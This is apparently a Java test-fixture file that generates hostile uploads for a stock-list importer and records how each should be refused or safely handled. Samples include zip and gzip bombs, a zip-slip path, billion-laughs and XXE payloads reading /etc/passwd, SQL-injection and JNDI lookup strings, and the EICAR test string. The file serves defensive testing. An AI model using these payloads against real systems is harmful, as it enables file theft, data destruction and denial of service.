package tn.aloauto.integration.corpus;

import static tn.aloauto.integration.corpus.Corpus.FILTER;
import static tn.aloauto.integration.corpus.Corpus.HEADER;
import static tn.aloauto.integration.corpus.Corpus.file;
import static tn.aloauto.integration.corpus.Corpus.lines;
import static tn.aloauto.integration.corpus.Corpus.standard;
import static tn.aloauto.integration.corpus.Corpus.threeParts;
import static tn.aloauto.integration.corpus.Corpus.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Archives, broken transfers and files made to hurt. */
final class HostileCases {

    private static final int MEGABYTE = 1 << 20;

    private HostileCases() {}

    static void addTo(Corpus corpus) {
        archives(corpus);
        bombs(corpus);
        workbooks(corpus);
        text(corpus);
    }

    private static void archives(Corpus corpus) {
        corpus.add(
                threeParts("archive/one-csv.zip", "A mail program zips the attachment")
                        .done(),
                zip("stock.csv", standard()));
        corpus.add(threeParts("archive/csv.gz", "A cron job gzips its export").done(), gzip(Corpus.utf8(standard())));
        corpus.add(
                threeParts("archive/workbook.zip", "A workbook in a zip").done(),
                zip("stock.xlsx", Workbooks.xlsx(Workbooks.standard())));
        corpus.add(
                threeParts("archive/csv-and-mac-litter.zip", "A Mac adds __MACOSX and .DS_Store")
                        .done(),
                zip("stock.csv", standard(), "__MACOSX/._stock.csv", "x", ".DS_Store", "x"));
        corpus.add(
                file("archive/two-lists.zip", "Two lists in one archive: which is the stock?")
                        .refusedAs("SEVERAL_FILES"),
                zip("stock.csv", standard(), "ancien.csv", standard()));
        corpus.add(
                file("archive/nothing-inside.zip", "An archive of a picture").refusedAs("NO_LIST_INSIDE"),
                zip("photo.jpg", "JFIF"));
        corpus.add(
                file("archive/nested.zip", "A zip in a zip").refusedAs("NESTED_ARCHIVE"),
                zip("inner.zip", zip("stock.csv", standard())));
        corpus.add(
                threeParts(
                                "archive/path-escape.zip",
                                "An entry named ../../etc/cron.d/stock.csv: names inside are never paths to us")
                        .done(),
                zip("../../etc/cron.d/stock.csv", standard()));
        byte[] whole = zip("stock.csv", standard());
        corpus.add(
                file("archive/cut-off.zip", "The transfer broke off in the middle")
                        .refusedAs("BROKEN_FILE"),
                Arrays.copyOf(whole, whole.length / 2));
        byte[] workbook = Workbooks.xlsx(Workbooks.standard());
        corpus.add(
                file("archive/cut-off.xlsx", "A workbook whose transfer broke off")
                        .refusedAs("BROKEN_FILE"),
                Arrays.copyOf(workbook, workbook.length / 2));
    }

    private static void bombs(Corpus corpus) {
        corpus.add(
                file("hostile/bomb.zip", "64 MB of zeros in 64 KB: refused by ratio before it is unpacked")
                        .refusedAs("ZIP_BOMB"),
                zip("stock.csv", new byte[64 * MEGABYTE]));
        corpus.add(
                file("hostile/bomb.gz", "64 MB of zeros in 64 KB").refusedAs("ZIP_BOMB"),
                gzip(new byte[64 * MEGABYTE]));
        corpus.add(
                file("hostile/bomb.xlsx", "A workbook whose sheet is 64 MB of blanks")
                        .refusedAs("ZIP_BOMB"),
                Workbooks.byHand(
                        "<worksheet><sheetData>" + " ".repeat(64 * MEGABYTE) + "</sheetData></worksheet>", null, ""));
        corpus.add(
                file("hostile/entity-bomb.xlsx", "A billion laughs in the shared strings")
                        .refusedAs("FORBIDDEN_XML"),
                Workbooks.byHand(
                        "<worksheet><sheetData>" + Workbooks.handMadeRows() + "</sheetData></worksheet>",
                        "<sst><si><t>&d;</t></si></sst>",
                        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;\">]>"));
        corpus.add(
                file("hostile/external-entity.xlsx", "A sheet that asks the reader for /etc/passwd")
                        .refusedAs("FORBIDDEN_XML"),
                Workbooks.byHand(
                        "<worksheet><sheetData>"
                                + Workbooks.sheetRows(HEADER, "&x;;Plaquettes;Bosch;#12.5;#3;Plaquettes de frein;")
                                + "</sheetData></worksheet>",
                        null,
                        "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"));
    }

    private static void workbooks(Corpus corpus) {
        corpus.add(
                threeParts(
                                "hostile/inflated-dimension.xlsx",
                                "The sheet says it is A1:XFD1048576 and holds three parts")
                        .done(),
                Workbooks.byHand(
                        "<worksheet><dimension ref=\"A1:XFD1048576\"/><sheetData>" + Workbooks.handMadeRows()
                                + "</sheetData></worksheet>",
                        null,
                        ""));
        corpus.add(
                file("hostile/macros.xlsm", "A workbook with macros").refusedAs("MACROS"),
                zip(
                        "[Content_Types].xml",
                        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>",
                        "xl/workbook.xml",
                        "<workbook/>",
                        "xl/vbaProject.bin",
                        "macro"));
        corpus.add(file("hostile/password.xlsx", "A workbook with a password").refusedAs("PASSWORD"), encrypted());
        corpus.add(
                file("hostile/picture.xlsx", "A PNG picture renamed to .xlsx").refusedAs("UNKNOWN_FORMAT"),
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        corpus.add(
                file("hostile/document.csv", "A PDF renamed to .csv").refusedAs("UNKNOWN_FORMAT"),
                "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");
    }

    private static void text(Corpus corpus) {
        corpus.add(
                file("hostile/nul-bytes.csv", "Zero bytes between the letters of a text file")
                        .refusedAs("BINARY_FILE"),
                lines(HEADER, "N-1;Plaq\u0000uettes;Bosch;12,500;3;Plaquettes de frein;", FILTER));
        corpus.add(file("hostile/random-bytes.csv", "Not text in any charset").refusedAs("BINARY_FILE"), randomBytes());
        corpus.add(
                file("hostile/control-characters.csv", "A bell and an escape sequence in a name: dropped from the text")
                        .takesNamed("K-1", "12.500", 3, "Plaquettes[31m")
                        .done(),
                lines(HEADER, "K-1;Plaquettes\u0007\u001B[31m;Bosch;12,500;3;Plaquettes de frein;"));
        corpus.add(
                file("hostile/cell-of-a-megabyte.csv", "One cell of a million letters")
                        .takes("W712/75", "18.500", 40)
                        .returns(2, "Désignation", "TOO_LONG")
                        .done(),
                lines(HEADER, "M-1;" + "x".repeat(MEGABYTE) + ";Bosch;12,500;3;Plaquettes de frein;", FILTER));
        corpus.add(
                file("hostile/twenty-thousand-columns.csv", "A header of twenty thousand columns")
                        .refusedAs("TOO_MANY_COLUMNS"),
                lines("c;".repeat(20_000), "1;".repeat(20_000)));
        corpus.add(
                file("hostile/eicar.csv", "The antivirus test string").refusedAs("VIRUS"),
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI" + "CAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
        corpus.add(
                threeParts(
                                "hostile/name with spaces & accents é;,'.csv",
                                "A file name that a careless script would run")
                        .done(),
                standard());
        corpus.add(
                file("hostile/sql-in-cells.csv", "A name that would end a careless SQL statement")
                        .takesNamed("REF-1'); drop table product;--", "12.500", 3, "Robert'); DROP TABLE product;--")
                        .done(),
                lines(
                        HEADER,
                        "\"REF-1'); drop table product;--\";\"Robert'); DROP TABLE product;--\";Bosch;12,500;3;Plaquettes de frein;"));
        corpus.add(
                file(
                                "hostile/braces-and-placeholders.csv",
                                "Text that a template or an expression language would evaluate")
                        .takesNamed("T-1", "12.500", 3, "${jndi:ldap://exemple.tn/a} {{secret}} #{1+1}")
                        .done(),
                lines(HEADER, "T-1;${jndi:ldap://exemple.tn/a} {{secret}} #{1+1};Bosch;12,500;3;Plaquettes de frein;"));
    }

    private static byte[] randomBytes() {
        byte[] bytes = new byte[4096];
        new java.util.Random(20261121).nextBytes(bytes);
        return bytes;
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(content);
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
        return bytes.toByteArray();
    }

    private static byte[] encrypted() {
        try (POIFSFileSystem container = new POIFSFileSystem();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secret");
            try (var stream = encryptor.getDataStream(container)) {
                stream.write(Workbooks.xlsx(Workbooks.standard()));
            }
            container.writeFilesystem(bytes);
            return bytes.toByteArray();
        } catch (IOException | GeneralSecurityException failure) {
            throw new IllegalStateException(failure);
        }
    }
}
